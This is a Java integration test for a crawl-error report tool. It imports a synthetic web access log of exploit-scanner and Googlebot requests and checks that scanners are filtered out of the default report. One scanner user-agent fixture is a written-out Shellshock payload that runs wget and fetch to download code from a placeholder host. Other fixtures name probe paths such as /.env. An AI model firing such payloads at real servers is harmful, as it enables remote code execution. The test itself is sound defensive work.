package dev.crawlerrors.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.crawlerrors.crawler.CrawlerCatalog;
import dev.crawlerrors.crawler.CrawlerIdentifier;
import dev.crawlerrors.crawler.verify.CrawlerVerifier;
import dev.crawlerrors.crawler.verify.IpRangeSource;
import dev.crawlerrors.crawler.verify.IpRangeVerifier;
import dev.crawlerrors.ingest.SampleLogs;
import dev.crawlerrors.ingest.format.NamedFormats;
import dev.crawlerrors.pipeline.ImportListener;
import dev.crawlerrors.pipeline.ImportSummary;
import dev.crawlerrors.pipeline.LogImport;
import dev.crawlerrors.report.CrawlErrorReport;
import dev.crawlerrors.report.ReportConfig;
import dev.crawlerrors.store.duckdb.DuckDbHitStore;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A log as a small site on the Internet gets it: exploit scanners and Internet-wide surveys (their
 * agents as the public logs of issue 29 hold them) beside Googlebot and Google's fetchers, imported
 * by the pipeline into the real store and read through the real server on a loopback port.
 */
class ImportedScannersReportTest {

    @TempDir
    static Path dir;

    static DuckDbHitStore store;
    static ReportServer server;
    static ImportSummary summary;
    static String printed;
    static final HttpClient HTTP = HttpClient.newHttpClient();
    static final ObjectMapper JSON = new ObjectMapper();

    private static final String GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    private static final String GOOGLEBOT_SMARTPHONE = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
            + "(KHTML, like Gecko) Chrome/126.0.6478.182 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    private static final String WEB_PREVIEW = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Web Preview) "
            + "Chrome/27.0.1453 Safari/537.36";
    private static final String[][] SCANNERS = {
        {"ZmEu", "/phpMyAdmin/scripts/setup.php"},
        {"Mozilla/5.0 zgrab/0.x", "/"},
        {"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/nmaplowercheck1605999999"},
        {"masscan/1.0 (https://github.com/robertdavidgraham/masscan)", "/"},
        {"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "/"},
        {"Morfeus Fucking Scanner", "/user/soapCaller.bs"},
        {"Hello, World", "/GponForm/diag_Form?images/"},
        {"IDBTE4M CODE87", "/.env"},
        {"() { :;};/usr/bin/perl -e 'print \\\"Content-Type: text/plain\\\\r\\\\n\\\\r\\\\nXSUCCESS!\\\";system(\\\"wget http://192.0.2.9/x ; "
                + "fetch http://192.0.2.9/x\\\");'", "/cgi-bin/test.cgi"},
    };

    @BeforeAll
    static void importAndServe() throws Exception {
        List<String> lines = new ArrayList<>();
        int minute = 0;
        for (String[] scanner : SCANNERS) {
            lines.add(line(minute++, "203.0.113." + minute, scanner[1], 404, scanner[0]));
        }
        lines.add(line(minute++, "66.249.66.1", "/old-page", 404, GOOGLEBOT));
        lines.add(line(minute++, "66.249.66.2", "/moved", 301, GOOGLEBOT_SMARTPHONE));
        lines.add(line(minute++, "66.249.66.3", "/", 200, GOOGLEBOT));
        lines.add(line(minute++, "198.51.100.4", "/preview", 404, WEB_PREVIEW));
        Path log = dir.resolve("access.log");
        Files.write(log, lines);

        CrawlerCatalog catalog = CrawlerCatalog.builtIn();
        store = DuckDbHitStore.open(dir.resolve("hits.duckdb"));
        try (CrawlerVerifier verifier = new CrawlerVerifier(new IpRangeVerifier(catalog, IpRangeSource.parse(SampleLogs.ipRanges(dir).toString())),
                null)) {
            summary = new LogImport(store, new CrawlerIdentifier(catalog), verifier, NamedFormats.chooser("auto", notice -> { }))
                    .run(List.of(log.toString()), ImportListener.Factory.NONE, false);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        summary.print(new PrintStream(out, true, StandardCharsets.UTF_8));
        printed = out.toString(StandardCharsets.UTF_8);
        server = ReportServer.start(new CrawlErrorReport(store.reader(), ReportConfig.in(ZoneId.of("UTC")).withCatalog(catalog)), store.health(), ServerConfig.on("127.0.0.1", 0));
    }

    private static String line(int minute, String ip, String url, int status, String agent) {
        return String.format("%s - - [14/May/2025:09:%02d:00 +0000] \"GET %s HTTP/1.1\" %d 162 \"-\" \"%s\"", ip, minute, url, status, agent);
    }

    @AfterAll
    static void stop() {
        server.close();
        store.close();
    }

    static JsonNode json(String path) throws Exception {
        HttpResponse<String> response = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + path)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as(path).isEqualTo(200);
        return JSON.readTree(response.body());
    }

    static TreeSet<String> crawlers(String query) throws Exception {
        TreeSet<String> names = new TreeSet<>();
        json("/api/crawl-errors?" + query).get("rows").forEach(row -> names.add(row.get("crawler").asText()));
        return names;
    }

    @Test
    void theDefaultReportPatternsAndOverviewHoldGooglesCrawlersAloneTheScannersOneFilterAway() throws Exception {
        assertThat(crawlers("")).containsExactly("Google Web Preview", "Googlebot Desktop", "Googlebot Smartphone");
        assertThat(json("/api/crawl-errors/patterns").get("total").asLong()).isEqualTo(3);
        assertThat(json("/api/crawl-errors/overview").get("total").asLong()).isEqualTo(3);

        JsonNode scanners = json("/api/crawl-errors?bot=security_scanner");
        assertThat(scanners.get("total").asLong()).isEqualTo(SCANNERS.length);
        scanners.get("rows").forEach(row -> assertThat(row.get("botType").asText()).isEqualTo("security_scanner"));
        assertThat(json("/api/crawl-errors?bot=all").get("total").asLong()).isEqualTo(SCANNERS.length + 3);
    }

    @Test
    void theSummarysNumberIsTheReportsTotalAndNamesTheOneWithScanners() throws Exception {
        assertThat(summary.errorHits()).isEqualTo(json("/api/crawl-errors").get("total").asLong()).isEqualTo(3);
        assertThat(summary.errorHits() + summary.hiddenErrorHits()).isEqualTo(json("/api/crawl-errors?bot=all").get("total").asLong());
        assertThat(printed).contains("error hits (status >= 300) for the report: 3; with monitors and scanners: 12 (and 0 from impostors,"
                + " left out as spoofed).");
    }

    @Test
    void aFamilysNameFindsEachOfItsCrawlersAndGooglesOtherFetchersGoByTheirOwn() throws Exception {
        assertThat(crawlers("crawler=Googlebot")).containsExactly("Googlebot Desktop", "Googlebot Smartphone");
        assertThat(crawlers("crawler=" + URLEncoder.encode("Google Web Preview", StandardCharsets.UTF_8))).containsExactly("Google Web Preview");
        assertThat(json("/api/crawl-errors?crawler=Googlebot").get("total").asLong()).isEqualTo(2);
    }
}
